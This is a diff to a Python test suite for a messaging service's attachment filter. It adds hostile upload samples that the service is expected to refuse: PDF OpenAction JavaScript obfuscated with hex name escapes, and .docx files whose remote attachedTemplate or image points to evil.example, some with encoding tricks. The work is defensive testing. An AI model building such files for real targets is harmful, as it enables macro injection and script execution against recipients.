@@ -26,6 +26,7 @@ from services.messaging.tests.attachments import (
     PDF,
     RAJ,
     SITI,
+    a_docx,
     a_zip,
     kept,
     send,
@@ -63,6 +64,8 @@ async def test_a_picture_is_drawn_anew_and_read_by_both(messaging: Service) -> N
         (PDF, "receipt.html", "receipt.pdf", "application/pdf"),
         (DOC, "letter", "letter.doc", "application/msword"),
         (DOCX, "a\u202ecod.exe", "acod.docx", rules.DOCX),
+        (a_docx("hyperlink External https://ok.example"), "links.docx", "links.docx", rules.DOCX),
+        (a_docx("styles Internal styles.xml"), "plain.docx", "plain.docx", rules.DOCX),
         (PDF, "..\\..\\.pdf", "file.pdf", "application/pdf"),
         (PDF, "n" * 300 + ".pdf", "n" * 80 + ".pdf", "application/pdf"),
     ],
@@ -93,6 +96,14 @@ async def test_a_document_is_saved_as_what_its_bytes_say(
         b"<!doctype html><script>alert(1)</script>%PDF-1.7",
         b"\n" + PDF,
         PDF.replace(b"/Type", b"/OpenAction << /S /JavaScript >> /Type"),
+        PDF.replace(b"/Type", b"/OpenAction << /S /J#61vaScript >> /Type"),
+        PDF.replace(b"/Type", b"/OpenAction << /S /#4A#41vascrip#74 >> /Type"),
+        a_docx("attachedTemplate External https://evil.example/macros.dotm"),
+        a_docx("attachedTemplate &#69;xternal \\\\evil.example\\x.dotm", encoding="utf-16"),
+        a_docx("image External https://evil.example/seen.png"),
+        a_docx("hyperlink External https://ok.example", before="<!DOCTYPE r [<!ENTITY a 'b'>]>"),
+        a_docx("hyperlink External https://ok.example", size=64 * 1024),
+        a_docx("hyperlink External https://ok.example<"),
         b"GIF89a/*" + b"x" * 100 + b"*/=alert(1)",
         b"MZ" + bytes(200),
         a_zip("word/document.xml"),
@@ -107,7 +118,8 @@ async def test_a_document_is_saved_as_what_its_bytes_say(
     ],
 )
 async def test_what_would_run_or_is_no_document_is_refused(messaging: Service, data: bytes) -> None:
-    """U26: SVG, HTML, polyglots, programs, macros, foreign and broken archives leave nothing behind."""
+    """U26, S15: SVG, HTML, polyglots, programs, macros, escaped names, templates from elsewhere and broken
+    archives leave nothing behind."""
     before = await kept(messaging)
     answer = await send(messaging, data, "receipt.pdf")
     assert (answer.status_code, answer.json()["code"]) == (415, "file_refused")
